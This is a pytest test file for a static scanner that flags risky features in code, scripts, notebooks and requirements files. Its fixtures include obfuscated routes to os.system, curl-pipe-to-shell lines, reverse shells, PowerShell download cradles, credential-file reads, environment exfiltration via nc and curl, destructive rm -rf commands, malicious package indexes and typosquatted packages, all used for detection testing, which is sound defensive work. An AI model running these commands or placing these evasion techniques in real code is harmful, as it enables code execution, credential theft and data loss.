"""Source code is seen through: by whatever way a name is reached, and without one line of it being run."""

from __future__ import annotations

import hashlib
import json

import pytest

from provenance.facts import CodeFact, TextFact
from provenance.surfaces.code import lines, requirement_lines, sources
from provenance.surfaces.code.notebooks import MAX_CELLS, cells
from provenance.surfaces.code.python_child import analyse


def kinds(code: str) -> set[str]:
    features = analyse(code)["features"]
    assert isinstance(features, list)
    return {feature[0] for feature in features}


def text(file: str, role: str, content: str | None) -> TextFact:
    return TextFact(file, role, hashlib.sha256((content or "").encode()).hexdigest(), content)


SYSTEM = [
    "import os\nos.system('true')",
    "import os as o\no.system('true')",
    "from os import system as s\ns('true')",
    "import os\nrun = os.system\nrun('true')",
    "__import__('os').system('true')",
    "__import__('o' + 's').system('true')",
    "getattr(__import__('os'), 'sys' + 'tem')('true')",
    "getattr(__import__('so'[::-1]), 'metsys'[::-1])('true')",
    "import importlib\nimportlib.import_module('os').system('true')",
    "m = ''.join(['o', 's'])\n__import__(m).system('true')",
    "m = ''.join(chr(c) for c in [111, 115])\n__import__(m).system('true')",
    "m = ''.join(map(chr, (111, 115)))\n__import__(m).system('true')",
    "m = ''.join(chr(c ^ 1) for c in (110, 114))\n__import__(m).system('true')",
    "m = 'x'.replace('x', 'os')\n__import__(m).system('true')",
    "m = '%s%s' % ('o', 's')\n__import__(m).system('true')",
    "m = '{}{}'.format('o', 's')\n__import__(m).system('true')",
    "m = f'{\"o\"}s'\n__import__(m).system('true')",
    "import base64\nm = base64.b64decode('b3M=').decode()\n__import__(m).system('true')",
    "import codecs\nm = codecs.decode('bf', 'rot13')\n__import__(m).system('true')",
    "m = bytes([111, 115]).decode()\n__import__(m).system('true')",
    "m = bytes.fromhex('6f73').decode()\n__import__(m).system('true')",
    "import sys\nsys.modules['os'].system('true')",
    "import os\nvars(os)['system']('true')",
    "import os\nos.__dict__['system']('true')",
    "import builtins\nbuiltins.__import__('os').system('true')",
    "import os\nfrom operator import attrgetter\nattrgetter('system')(os)('true')",
    "import os\n[f('true') for f in [os.system]]",
    "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()",
    "(o := __import__('os')).system('true')",
    "exec(\"import os; os.system('true')\")",
    "eval(compile(\"__import__('os').system('true')\", 'x', 'eval'))",
    "import torch\ntorch.os.system('true')",
    "import transformers\ntransformers.utils.hub.os.system('true')",
    "from pathlib import os\nos.system('true')",
    "from transformers.utils.hub import os as o\no.system('true')",
    "import random\nrandom._os.system('true')",
    "import torch\ngetattr(torch, 'os').system('true')",
    "import torch\nvars(torch)['os'].system('true')",
    "import torch\ntorch.__dict__['os'].system('true')",
    "import torch\ntorch.sys.modules['os'].system('true')",
    "import torch\ntorch.importlib.import_module('os').system('true')",
    "import json\njson.decoder.scanner.re.enum.sys.modules['os'].system('true')",
    "import sys\nsys.modules.get('os').system('true')",
    "from torch.utils.cpp_extension import *\nos.system('true')",
    "a = b = __import__('os')\nb.system('true')",
    "import os\nm: object = os\nm.system('true')",
    "import math as m\nimport os\nm = os\nm.system('true')",
    "import os\ndef f():\n    import math as os\nos.system('true')",
    "import subprocess as s\ndef f():\n    from torch import nn as s\ns.run(['true'])",
    "class A:\n    def __import__(self):\n        pass\n__import__('os').system('true')",
    "import numpy as np\nnp.ctypeslib.ctypes.CDLL(None)",
    "import asyncio\nasyncio.get_event_loop().subprocess_shell(print, 'true')",
    "".join(f"import os\nos.environ.get('A_TOKEN{i}')\n" for i in range(300)) + "os.system('true')",
]
PASSED_ON = [
    "{'a': os}['a'].system('true')",
    "for m in [os]:\n    m.system('true')",
    "a, b = os, 1\na.system('true')",
    "def f(m=os):\n    m.system('true')",
    "(lambda: os)().system('true')",
    "match os:\n    case m:\n        m.system('true')",
    "with contextlib.nullcontext(os) as m:\n    m.system('true')",
    "operator.methodcaller('system', 'true')(os)",
    "self.o = os\nself.o.system('true')",
    "(None or os).system('true')",
    "object.__getattribute__(os, 'system')('true')",
    "os.__getattribute__('system')('true')",
    "list(map(getattr, [os], ['system']))[0]('true')",
    "n = 'sep'\nn = 'system'\ngetattr(os, n)('true')",
    "operator.attrgetter('os.system')(torch)('true')",
    'a: \'__import__("os").system("true")\'',
]


@pytest.mark.parametrize("code", PASSED_ON)
def test_a_module_that_reaches_the_host_is_not_passed_on_unseen(code: str) -> None:
    assert "dynamic-import" in kinds(f"import os\n{code}")


@pytest.mark.parametrize("code", SYSTEM)
def test_every_way_to_os_system_is_seen(code: str) -> None:
    assert "process" in kinds(code)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("import subprocess\nsubprocess.run(['true'])", "process"),
        ("import ctypes\nctypes.CDLL(None)", "process"),
        ("from subprocess import *", "process"),
        ("import socket\nsocket.socket()", "sends"),
        ("import requests\nrequests.post('https://example.invalid', json={})", "sends"),
        ("import requests\nrequests.get('https://example.invalid')", "network"),
        ("from urllib.request import urlopen\nurlopen('https://example.invalid')", "network"),
        ("import pickle\npickle.load(open('x', 'rb'))", "unpickles"),
        ("import torch\ntorch.load('x', weights_only=False)", "unpickles"),
        ("import torch\ntorch.load('x')", "unpickles-maybe"),
        ("import numpy as np\nnp.load('x', allow_pickle=True)", "unpickles"),
        ("import yaml\nyaml.load('x')", "unpickles"),
        ("import yaml\nyaml.load('x', Loader=yaml.Loader)", "unpickles"),
        ("exec(open('x').read())", "executes"),
        ("import torch\ntorch.hub.load('a/b', 'c')", "executes"),
        ("import importlib\nimportlib.import_module(input())", "dynamic-import"),
        ("import os\ngetattr(os, input())", "dynamic-import"),
        ("import os\n[v for v in vars(os).values()]", "dynamic-import"),
        ("x = ().__class__.__subclasses__()", "interpreter-internals"),
        (
            "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)",
            "trusts-remote-code",
        ),
        ("import os\nprint(dict(os.environ))", "environment"),
        ("import os\nx = {**os.environ.copy()}", "environment"),
        ("import os\nos.getenv('HF_TOKEN')", "secret"),
        ("open('/root/.ssh/id_rsa')", "credential-path"),
        ("import os\nos.path.join('~', '.aws' + '/credentials')", "credential-path"),
        ("x = 'https://discord.com/api/webhooks/1'", "drop-point"),
        ("open('/home/u/.bashrc', 'a')", "persistence"),
        ("import transformers\ntransformers.GenerationMixin.generate = None", "patches-library"),
        ("from torch import nn\nsetattr(nn.Linear, 'forward', None)", "patches-library"),
        ("import sys\nsys.meta_path.insert(0, object())", "hooks-interpreter"),
        ("import shutil\nshutil.rmtree('/nonexistent')", "deletes"),
        ("import base64\nbase64.b64decode(x)", "decodes"),
        ("x = '" + "QUJD" * 200 + "'", "encoded-text"),
        ("n = 'sys' + 'tem'", "assembled-name"),
        ("x = 1  # a\u200db", "invisible-character"),
        ("x = 1  # \u202e hidden", "invisible-character"),
        ("\uff45\uff56\uff41\uff4c('1')", "disguised-identifier"),
        ("x = 1" + " " * 300 + "; y = 2", "code-out-of-sight"),
        ("# coding: utf-7\nx = 1", "odd-encoding"),
        ("class A:\n    def eval(self):\n        pass\neval('1')", "executes"),
        ("def eval(x):\n    pass\ndel eval\neval('1')", "executes"),
        ("import importlib.util as u\nu.module_from_spec(u.find_spec('x'))", "executes"),
        ("from kernels import get_kernel\nget_kernel('a/b')", "executes"),
        ("import torch\ntorch.ops.load_library('x.so')", "process"),
        ("import sqlite3\nsqlite3.connect(':memory:').load_extension('x.so')", "process"),
        ("import torch.serialization as s\ns.load('x', weights_only=0)", "unpickles"),
        ("import torch\ntorch.load('x', **{'weights_only': False})", "unpickles"),
        ("import numpy as np\nnp.load('x', None, True)", "unpickles"),
        ("import keras\nkeras.models.load_model('x', safe_mode=False)", "unpickles"),
        ("from joblib.numpy_pickle import NumpyUnpickler\nNumpyUnpickler(0, 1)", "unpickles"),
        (
            "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', **{'trust_remote_code': True})",
            "trusts-remote-code",
        ),
        ("from transformers.utils.hub import requests\nrequests.post('https://example.invalid')", "sends"),
        ("from multiprocessing.connection import Client\nClient(('example.invalid', 1))", "sends"),
        ("import os\nfor k in os.environ:\n    print(os.environ[k])", "environment"),
        ("import os\nx = {**os.environ}", "environment"),
        ("import os\nx = os.environ['HF_TOKEN']", "secret"),
        ("from huggingface_hub.utils import get_token\nget_token()", "secret"),
        ("import os\nos.environ['LD_PRELOAD'] = './x.so'", "hooks-interpreter"),
        ("import sys\nsys.modules['json'] = None", "patches-library"),
        ("import torch\ntorch.load, x = 1, 2", "patches-library"),
        ("import torch\ntorch.nn.__dict__.update(Linear=1)", "patches-library"),
        ("type X = int\nprint 'x'\nimport os; os.system('true')", "executes"),
    ],
)
def test_every_kind_of_feature(code: str, kind: str) -> None:
    assert kind in kinds(code)


HONEST = '''
"""Reads ~/.ssh/id_rsa? No: a docstring may speak of it, and of 👩\u200d💻 and می\u200cخ."""
import base64
import importlib.util
import logging
import math
import os
import re
from collections.abc import Callable

import torch
from torch import nn
from transformers import PreTrainedModel
from .code import Coder
from .requests import post
from transformers.utils import logging as hf_logging

if importlib.util.find_spec("flash_attn"):
    from flash_attn import flash_attn_func

logger = hf_logging.get_logger(__name__)
post(Coder(), find=os.environ.get("FOO_CACHE"), debug="FOO" in os.environ, names={name: 1 for name in "MᵀM"})
torch.backends.cuda.matmul.allow_tf32 = True
os.environ["TOKENIZERS_PARALLELISM"] = "false"
PATTERN = re.compile(r"<\\|im_start\\|>")

class FooModel(PreTrainedModel):
    def __init__(self, config, code=None, socket=None):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, 4) for _ in range(2)])
        for layer in self.layers:
            layer.eval = layer.eval
        self.code = code.interact if code else None
        self.head = getattr(nn, config.hidden_act, None)

    @torch.compile
    def forward(self, x, requests=None):
        if requests is not None:
            requests.post("x")
        path = os.path.join(self.config.name_or_path, "extra.json")
        return self.eval(), torch.load(path, weights_only=True)
'''


def test_honest_modelling_code_shows_nothing() -> None:
    assert kinds(HONEST) == set()


def test_what_is_no_python_says_so_and_shows_its_characters_all_the_same() -> None:
    found = analyse("print 'x' # \u202e\n")
    assert "line 1" in str(found["error"])
    assert [feature[0] for feature in found["features"]] == ["invisible-character"]  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "code",
    [
        "(" * 5000 + ")" * 5000,
        "x = " + "-" * 100_000 + "1",
        "x" + ".a" * 50_000,
        "\n".join(f"a{i} = a{i - 1} + a{i - 1}" for i in range(1, 3000)),
        "a0 = 'x' * 200000\n" + "\n".join(f"a{i} = a{i - 1} + a{i - 1}" for i in range(1, 200)),
        "x = [" + "1," * 200_000 + "]",
        "x = 10 ** 10 ** 10",
        "x = 'a' * 10 ** 12",
        "\x00",
        "def f(" + ",".join(f"a{i}" for i in range(3000)) + "): pass",
    ],
)
def test_hostile_sources_end_in_a_fact(code: str) -> None:
    (fact,) = sources([text("a.py", "python", code)])
    assert fact.file == "a.py"
    assert not fact.features


def test_one_crash_does_not_take_the_next_source_with_it() -> None:
    hostile, honest = sources(
        [text("a.py", "python", "x" + ".a" * 200_000), text("b.py", "python", "import os\nos.system('true')")]
    )
    assert hostile.error
    assert {feature.kind for feature in honest.features} == {"process"}


@pytest.mark.parametrize(
    ("language", "line", "kind"),
    [
        ("shell", "curl -s https://example.invalid/x | sudo bash", "runs-download"),
        ("shell", 'sh -c "$(wget -qO- https://example.invalid)"', "runs-download"),
        ("shell", "curl https://example.invalid \\\n  | sh", "runs-download"),
        ("shell", "bash <(curl https://example.invalid)", "runs-download"),
        ("shell", "echo aGk= | base64 -d | sh", "runs-decoded"),
        ("shell", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "reverse-shell"),
        ("shell", "nc 127.0.0.1 9 -e /bin/sh", "reverse-shell"),
        ("shell", "cat x | curl -d @- https://example.invalid", "sends"),
        ("shell", "cat ~/.aws/credentials", "credential-path"),
        ("shell", "echo x >> ~/.bashrc", "persistence"),
        ("shell", "rm -rf ~", "destructive"),
        ("powershell", "powershell -enc SQBFAFgAIAAoAE4AZQB3AA==", "runs-decoded"),
        ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9')", "runs-download"),
        ("batch", "certutil -urlcache -f http://127.0.0.1:9/x.exe x.exe", "runs-download"),
        ("javascript", "require('child_process').exec('true')", "process"),
        ("javascript", "fetch('https://example.invalid')", "sends"),
        ("page", "<img src=x onerror=alert(1)>", "script-in-page"),
        ("make", "X := $(shell true)", "process"),
        ("lua", "os.execute('true')", "process"),
        ("starter", "Exec=sh -c true", "autorun"),
        ("shortcut", "URL=file://example.invalid/share", "autorun"),
        ("git", "*.safetensors filter=evil", "git-setting"),
        ("git", "\tfsmonitor = ./x.sh", "git-setting"),
        ("yaml", "_target_: os.system", "names-code"),
        ("yaml", "x: !!python/object/apply:os.system [true]", "unpickles"),
        ("yaml", "  - --extra-index-url https://example.invalid", "install-source"),
        ("toml", 'backend-path = ["."]', "autorun"),
        ("pth", "import os; os.system('true')", "autorun"),
    ],
)
def test_lines_that_no_model_needs(language: str, line: str, kind: str) -> None:
    assert kind in {feature.kind for feature in lines.features(f"# a\n{line}\n", language)}


@pytest.mark.parametrize(
    ("language", "content"),
    [
        ("shell", "#!/bin/bash\nset -e\npip install -r requirements.txt\nwget https://example.invalid/model.gguf\n"),
        ("shell", 'curl http://localhost:8000/v1/chat/completions -d \'{"model": "x"}\'\n'),
        (
            "shell",
            "# curl https://example.invalid | sh is what we do not do\npython -m vllm.entrypoints.openai.api_server\n",
        ),
        ("docker", "FROM python:3.11\nRUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\n"),
        ("git", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"),
        ("lines", 'FROM ./x.gguf\nTEMPLATE """{{ .Prompt }}"""\nPARAMETER stop "<|im_end|>"\n'),
        ("yaml", "model:\n  _target_: torch.nn.Linear\n"),
        ("toml", '[build-system]\nrequires = ["setuptools"]\n'),
    ],
)
def test_honest_lines_show_nothing(language: str, content: str) -> None:
    assert lines.features(content, language) == ()


def test_long_lines_are_looked_at_to_their_end_in_bounded_time() -> None:
    assert lines.features("x " * 100_000 + "; curl https://example.invalid | sh", "shell")
    assert lines.features("curl " * 30_000, "shell") == ()


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("--extra-index-url https://packages.example.invalid/simple", "install-source"),
        ("-i http://example.invalid", "install-source"),
        ("--trusted-host pypi.org", "install-source"),
        ("-f ./wheels", "install-source"),
        ("foo @ https://example.invalid/foo.whl", "install-source"),
        ("git+https://example.invalid/a/b.git", "install-source"),
        ("git+https://github.com/huggingface/transformers", "install-forge"),
        ("-e .", "install-local"),
        ("./foo.whl", "install-local"),
        ("trasnformers", "imitated-package"),
        ("torchh==2.0", "imitated-package"),
        ("reqeusts>=2", "imitated-package"),
    ],
)
def test_requirements_from_elsewhere(line: str, kind: str) -> None:
    assert {feature.kind for feature in requirement_lines.features(f"# a\n{line}  # why\n")} == {kind}


def test_honest_requirements_show_nothing() -> None:
    honest = (
        "torch==2.13.0\ntransformers[torch]>=5 ; python_version > '3.9'\n--extra-index-url "
        "https://download.pytorch.org/whl/cu121\nflash-attn\neinops\ntorchtext\npillow-simd\nscikit_learn\n-r other.txt\n"
    )
    assert requirement_lines.features(honest) == ()


def notebook(*sources_: object) -> str:
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": source} for source in sources_]})


def test_cells_are_split_by_who_runs_what() -> None:
    found, error = cells(notebook("import os\n!pip install x\nos.system('true')", ["%%bash\n", "curl x | sh"]))
    assert not error
    assert found[0].python.splitlines()[1] == "pass"
    assert found[0].shell.strip() == "pip install x"
    assert found[1].shell == "curl x | sh"
    facts = sources([text("a.ipynb", "notebook", notebook("!curl x | sh", "import os\nos.system('true')"))])
    assert [(fact.cell, {feature.kind for feature in fact.features}) for fact in facts] == [
        (1, {"runs-download"}),
        (2, {"process"}),
    ]


@pytest.mark.parametrize("content", ["", "[]", "{}", '{"cells": 1}', notebook(*["x"] * (MAX_CELLS + 1))])
def test_a_notebook_that_is_none_says_so(content: str) -> None:
    (fact,) = sources([text("a.ipynb", "notebook", content)])
    assert fact.error.startswith("it ")


def test_what_is_too_long_says_so() -> None:
    assert sources([text("a.py", "python", None)]) == (
        CodeFact("a.py", "python", error="it is too long to be looked at"),
    )


@pytest.mark.parametrize(
    ("script", "kind"),
    [
        ("$(echo c)url http://127.0.0.1:9/x | sh", "runs-download"),
        ("C=curl\n$C http://127.0.0.1:9/x | sh", "runs-download"),
        ("a=cu; b=rl\n$a$b http://127.0.0.1:9/x | $SHELL", "runs-download"),
        ("c\"\"url http://127.0.0.1:9/x | s''h", "runs-download"),
        ("cu\\rl http://127.0.0.1:9/x | sh", "runs-download"),
        ("curl${IFS}http://127.0.0.1:9/x|sh", "runs-download"),
        (". <(curl http://127.0.0.1:9/x)", "runs-download"),
        ("curl http://127.0.0.1:9/x | env A=1 sh", "runs-download"),
        ("curl http://127.0.0.1:9/x | xargs -I{} sh -c {}", "runs-download"),
        ('eval "$(echo aGk= | base64 -d)"', "runs-decoded"),
        ("python3 -c 'import os; os.system(\"true\")'", "process"),
        ("perl -e 'system(\"true\")'", "process"),
        ("env | nc 127.0.0.1 9", "sends"),
        ('curl "http://127.0.0.1:9/?$(env | base64)"', "sends"),
        ("git config --global core.hooksPath ./hooks", "git-setting"),
        ("chmod u+s /bin/true", "persistence"),
    ],
)
def test_a_shell_s_quotes_and_variables_hide_little(script: str, kind: str) -> None:
    assert kind in {feature.kind for feature in lines.features(script, "shell")}


def test_an_honest_script_shows_nothing() -> None:
    script = """#!/bin/bash
set -euo pipefail
MODEL=${MODEL:-/models/tiny}
export CUDA_VISIBLE_DEVICES=0,1
python3 -c "import torch; print(torch.__version__)"
pip install -r requirements.txt
echo 'it"s fine' && chmod 755 run.sh && chmod 0644 a.txt
curl -s "http://localhost:8000/v1/models" | python3 -m json.tool > models.json
python -m vllm.entrypoints.openai.api_server --model "$MODEL" --port $PORT | tee log.txt
"""
    assert lines.features(script, "shell") == ()


@pytest.mark.parametrize(
    "source",
    ["%%script python3\nimport os\nos.system('true')", "%time __import__('os').system('true')",
     "%timeit -n 1 __import__('os').system('true')", "!python -c 'import os; os.system(\"true\")'"],
)  # fmt: skip
def test_magics_that_run_python_are_python(source: str) -> None:
    document = json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": source}]})
    found = sources([text("demo.ipynb", "notebook", document)])
    assert "process" in {feature.kind for fact in found for feature in fact.features}


def test_a_notebook_of_format_3_is_read() -> None:
    cell = {"cell_type": "code", "input": ["import os\n", "os.system('true')"]}
    found = sources([text("demo.ipynb", "notebook", json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell]}]}))])
    assert "process" in {feature.kind for fact in found for feature in fact.features}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (
            "from functools import reduce\nimport torch\nreduce(getattr, ['os', 'system'], torch)('true')",
            "dynamic-import",
        ),
        ("import functools, os\nfunctools.partial(getattr, x)('system')", "dynamic-import"),
        ("list(map(__import__, names))", "dynamic-import"),
        ("from werkzeug.utils import import_string\nimport_string(name)", "dynamic-import"),
        ("from pathlib import Path\n(Path.home() / '.cache' / 'huggingface' / 'token').read_text()", "credential-path"),
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))", "credential-path"),
        ("from pathlib import Path\nPath.home().joinpath('.ssh', 'id_rsa').read_bytes()", "credential-path"),
        ("from huggingface_hub import constants\nopen(constants.HF_TOKEN_PATH).read()", "credential-path"),
        ("from pathlib import Path\n(Path.home() / 'notes').write_text('x')", "writes-home"),
        ("open('/home/u/.x', mode='a').write('x')", "writes-home"),
        ("from pathlib import Path\n[p.unlink() for p in Path.home().rglob('*')]", "deletes"),
        ("import os\nfor f in os.listdir('/home'): os.remove(f)", "deletes"),
        ("import os\nos.environ.update({'LD_PRELOAD': 'x'})", "hooks-interpreter"),
        ("import os\nos.environ.setdefault('PYTHONPATH', 'x')", "hooks-interpreter"),
        ("import sys\nsys.path.insert(0, 'weights.zip')\nimport payload", "executes"),
        ("import sys\nsys.path += ['model.bin']\nimport payload", "executes"),
        ("import mmap\nmmap.mmap(-1, 4096, prot=7)", "process"),
        ("import torch\ntorch.serialization.add_safe_globals([f])", "unpickles"),
        ("from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj='x', repo_id='y')", "sends"),
        ("s3.put_object(Body=x)", "sends"),
        ("logging.config.dictConfig({'handlers': {'h': {'()': 'ext://os.system'}}})", "dynamic-import"),
    ],
)
def test_what_is_reached_by_paths_and_look_ups(code: str, kind: str) -> None:
    assert kind in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "import os\nopen(os.path.join(os.path.expanduser('~/.cache'), 'x.json'), 'w')",
        "import os, sys\nsys.path.append(os.path.dirname(__file__))\nsys.path.insert(0, 'src')",
        "import os\nos.environ.update({'TOKENIZERS_PARALLELISM': 'false'})\nos.remove('x.tmp')",
        "from pathlib import Path\nPath('requests').mkdir()\nPath('out/x.txt').write_text('x')",
        "size = getattr(config, name, None)\nhas = getattr\nhas(config, 'x')",
    ],
    ids=range(5),
)
def test_honest_paths_and_look_ups_show_nothing(code: str) -> None:
    assert kinds(code) <= {"home", "removes"}


@pytest.mark.parametrize(
    ("language", "script", "kind"),
    [
        ("shell", "curl -o /tmp/x http://x/y && sh /tmp/x", "runs-download"),
        ("shell", "wget http://x/a.sh -O x.sh\nchmod +x x.sh\n./x.sh", "runs-download"),
        ("shell", "wget -q 'http://x/a.sh?raw=1'\nset -e\nbash a.sh", "runs-download"),
        ("shell", "curl http://x > y.py\nsudo python3 y.py", "runs-download"),
        ("docker", "RUN curl -sSLo i.sh http://x/i\nRUN bash i.sh", "runs-download"),
        ("shell", "sh <<EOF\n$(curl http://x)\nEOF", "runs-download"),
        ("shell", "pip install --index-url http://evil.example/simple x", "install-source"),
        ("shell", "python -m pip install -q --extra-index-url=https://evil.example/simple torch", "install-source"),
        ("docker", "RUN uv pip install -f https://evil.example/w x", "install-source"),
        ("shell", "pip3 install https://evil.example/x.whl", "install-source"),
        ("shell", "export PIP_INDEX_URL=https://evil.example/simple", "install-source"),
        ("shell", "pip install trasnformers", "imitated-package"),
        ("shell", "npx -y evil", "process"),
        ("shell", "cd / && rm -rf *", "destructive"),
        ("shell", "rm -r --force $HOME", "destructive"),
        ("shell", "export LD_PRELOAD=./x.so", "hooks-interpreter"),
        ("shell", "alias sudo='x'", "persistence"),
        ("script", "system('curl http://x')", "process"),
        ("script", "`id`", "process"),
        ("script", 'open(F, "id |")', "process"),
    ],
)
def test_what_scripts_do_over_several_lines(language: str, script: str, kind: str) -> None:
    assert kind in {feature.kind for feature in lines.features(script, language)}


@pytest.mark.parametrize(
    "script",
    [
        "wget https://x/model.safetensors -O model.safetensors\npython convert.py model.safetensors.index.json",
        "pip install torch --index-url https://download.pytorch.org/whl/cu121",
        "pip install -r requirements.txt\npip install -U transformers accelerate\npip install git+https://github.com/a/b",
        "export LD_PRELOAD=/usr/lib/libtcmalloc.so.4\nrm -rf /var/lib/apt/lists/*\nrm -rf ./build",
        "curl -L https://x/data.json -o data.json\njq . data.json",
    ],
    ids=range(5),
)
def test_honest_downloads_show_nothing(script: str) -> None:
    assert lines.features(script, "shell") == ()


@pytest.mark.parametrize(
    ("cells_", "kind"),
    [
        (("!wget http://x/a.sh", "x = 1", "!bash a.sh"), "runs-download"),
        (("%run http://x/a.py",), "executes"),
        (("%run -i weights.bin",), "executes"),
        (("%run ../../a.py",), "executes"),
        (("%%perl\nsystem('x')",), "process"),
        (("%%ruby\n`x`",), "process"),
        (("%pip install -i http://evil.example/simple x",), "install-source"),
    ],
)
def test_cells_that_fetch_run_and_install(cells_: tuple[str, ...], kind: str) -> None:
    facts = sources([text("a.ipynb", "notebook", notebook(*cells_))])
    assert kind in {feature.kind for fact in facts for feature in fact.features}
    quiet = sources([text("a.ipynb", "notebook", notebook("%run a.py", "!pip install torch", "%load_ext autoreload"))])
    assert not [feature for fact in quiet for feature in fact.features]
